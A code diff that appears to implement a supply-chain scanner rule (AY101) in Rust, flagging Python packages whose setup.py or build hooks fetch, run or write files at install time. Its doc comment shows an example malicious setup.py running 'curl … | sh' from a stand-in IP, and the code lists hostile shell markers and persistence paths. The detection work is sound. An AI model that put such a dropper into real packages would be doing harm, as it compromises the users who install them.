@@ -1,12 +1,48 @@
-use crate::finding::Finding;
-use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};
+use crate::finding::{Finding, Severity};
+use crate::python::{Call, ExecContext, FileAnalysis, names};
+use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text};
 
 declare_rule! {
-    /// Skeleton.
+    /// Code that runs processes, opens network connections or writes files
+    /// while the package is being built or installed.
     ///
     /// ## What it finds
+    /// Calls in install-time context — the top level of an sdist's `setup.py`,
+    /// methods of `cmdclass` overrides (any subclass of a setuptools or
+    /// distutils command), in-tree PEP 517 build backends, and every local
+    /// function those call — that spawn a process, touch the network, or write
+    /// files. A network call together with a process, code execution or file
+    /// write in the same install-time file is reported as one chain.
+    ///
     /// ## Why it matters
+    /// `pip install` of an sdist runs this code with the installing user's
+    /// rights, before anyone has imported anything. It is the most common
+    /// place for PyPI malware: droppers that download and run a second stage,
+    /// stealers, reverse shells. Legitimate builds mostly run compilers and
+    /// `git`, and rarely fetch anything.
+    ///
+    /// Severity: a download together with execution or a file write is
+    /// critical; a network call alone, or a shell command that fetches or
+    /// decodes (`curl … | sh`, `powershell -enc`), is high or critical; other
+    /// process spawns are low (build tools) or medium; plain file writes low.
+    ///
     /// ## Example
+    /// ```python
+    /// from setuptools import setup
+    /// from setuptools.command.install import install
+    ///
+    /// class PostInstall(install):
+    ///     def run(self):
+    ///         import os
+    ///         os.system("curl -s http://203.0.113.7/x | sh")
+    ///         install.run(self)
+    ///
+    /// setup(name="pkg", cmdclass={"install": PostInstall})
+    /// ```
+    ///
+    /// ## References
+    /// MITRE ATT&CK T1195.001 (Compromise Software Dependencies and
+    /// Development Tools), T1059 (Command and Scripting Interpreter).
     pub struct InstallTimeExecution {
         id: "AY101",
         slug: "install-time-execution",
@@ -20,5 +56,211 @@ impl Rule for InstallTimeExecution {
         &Self::META
     }
 
-    fn check(&self, _facts: &PackageFacts<'_>, _out: &mut Vec<Finding>) {}
+    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
+        for file in facts.python {
+            check_file(&Self::META, file, ExecContext::Install, out);
+        }
+    }
+}
+
+/// The capabilities of one install-time (or startup-time) file, shared by
+/// the startup rule.
+pub(crate) fn check_file(
+    meta: &'static RuleMeta,
+    file: &FileAnalysis,
+    context: ExecContext,
+    out: &mut Vec<Finding>,
+) {
+    let calls: Vec<&Call> = file.calls.iter().filter(|c| c.context == context).collect();
+    let when = context.describe();
+    let mut network: Option<&Call> = None;
+    let mut acts: Vec<&'static str> = Vec::new();
+    for call in &calls {
+        let name = &*call.name;
+        if names::is_network(name) {
+            network.get_or_insert(call);
+            let target = call
+                .arg_texts()
+                .next()
+                .map(|t| format!(" ({t})"))
+                .unwrap_or_default();
+            let mut f = code_finding(
+                meta,
+                file,
+                call,
+                format!("`{name}` opens a network connection {when}{target}"),
+            );
+            f.severity = Severity::High;
+            out.push(f);
+        } else if names::is_process(name) {
+            acts.push("runs a process");
+            let command = shell_text(call);
+            let (severity, why) = match command.as_deref() {
+                Some(cmd) if is_hostile_command(cmd) => (
+                    Severity::Critical,
+                    "a command that fetches, decodes or hides",
+                ),
+                Some(cmd) if is_build_tool(cmd) => (Severity::Low, "a build tool"),
+                Some(_) => (Severity::Medium, "a process"),
+                None => (Severity::Medium, "a command built at run time"),
+            };
+            let mut f = code_finding(meta, file, call, format!("`{name}` runs {why} {when}"));
+            f.severity = severity;
+            f.decoded = command;
+            out.push(f);
+        } else if names::is_code_exec(name) {
+            acts.push("executes code");
+        } else if let Some(path) = written_path(call) {
+            acts.push("writes files");
+            let sensitive = is_sensitive_path(&path);
+            let mut f = code_finding(meta, file, call, format!("`{name}` writes {path} {when}"));
+            f.severity = if sensitive {
+                Severity::High
+            } else {
+                Severity::Low
+            };
+            out.push(f);
+        }
+    }
+    acts.sort_unstable();
+    acts.dedup();
+    if let Some(net) = network.filter(|_| !acts.is_empty()) {
+        let target = net.arg_texts().next().unwrap_or("a remote host");
+        let mut f = code_finding(
+            meta,
+            file,
+            net,
+            format!("{when}, connects to {target} and {}", acts.join(" and ")),
+        );
+        f.severity = Severity::Critical;
+        out.push(f);
+    }
+}
+
+/// The path a call writes to, when it writes a file.
+fn written_path(call: &Call) -> Option<String> {
+    let name = &*call.name;
+    if matches!(name, "builtins.open" | "io.open" | "codecs.open") {
+        let mode = call
+            .args
+            .get(1)
+            .or_else(|| call.keyword("mode"))?
+            .text
+            .as_deref()?;
+        if !mode.contains(['w', 'a', 'x']) {
+            return None;
+        }
+        return Some(
+            call.args
+                .first()?
+                .text
+                .as_deref()
+                .map_or_else(|| "a file".to_owned(), |p| format!("`{p}`")),
+        );
+    }
+    names::is_file_write(name).then(|| {
+        call.arg_texts()
+            .last()
+            .map_or_else(|| "a file".to_owned(), |p| format!("`{p}`"))
+    })
+}
+
+/// Shell text that fetches, decodes, hides or opens a shell.
+pub(crate) fn is_hostile_command(cmd: &str) -> bool {
+    const MARKERS: &[&str] = &[
+        "curl ",
+        "wget ",
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "base64 -d",
+        "base64 --decode",
+        "powershell",
+        "-enc",
+        "-encodedcommand",
+        "invoke-webrequest",
+        "downloadstring",
+        "downloadfile",
+        "certutil",
+        "bitsadmin",
+        "/dev/tcp/",
+        "nc -e",
+        "ncat ",
+        "mshta",
+        "rundll32",
+        "chmod +x",
+        "chmod 777",
+        "-windowstyle hidden",
+        "start-process",
+    ];
+    let lower = cmd.to_ascii_lowercase();
+    MARKERS.iter().any(|m| lower.contains(m))
+}
+
+/// Programs builds legitimately run.
+fn is_build_tool(cmd: &str) -> bool {
+    const TOOLS: &[&str] = &[
+        "git",
+        "hg",
+        "make",
+        "cmake",
+        "ninja",
+        "gcc",
+        "g++",
+        "cc",
+        "c++",
+        "clang",
+        "cl",
+        "cl.exe",
+        "pkg-config",
+        "python",
+        "python3",
+        "cython",
+        "swig",
+        "nvcc",
+        "cargo",
+        "rustc",
+        "go",
+        "npm",
+        "yarn",
+        "uname",
+        "which",
+        "xcrun",
+        "ldconfig",
+        "nproc",
+        "protoc",
+        "ar",
+        "ld",
+    ];
+    let program = cmd.split_whitespace().next().unwrap_or("");
+    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    TOOLS.contains(&program) || program.starts_with("python")
+}
+
+/// Places a package has no business writing to.
+pub(crate) fn is_sensitive_path(path: &str) -> bool {
+    const MARKERS: &[&str] = &[
+        ".bashrc",
+        ".zshrc",
+        ".profile",
+        ".bash_profile",
+        "/etc/",
+        "autostart",
+        "startup",
+        "\\start menu\\",
+        "launchagents",
+        ".ssh/",
+        "crontab",
+        "systemd",
+        "site-packages",
+        ".pth",
+        "sitecustomize",
+        "appdata",
+        "/tmp/",
+        "%temp%",
+        "/dev/shm",
+    ];
+    let lower = path.to_ascii_lowercase();
+    MARKERS.iter().any(|m| lower.contains(m))
 }
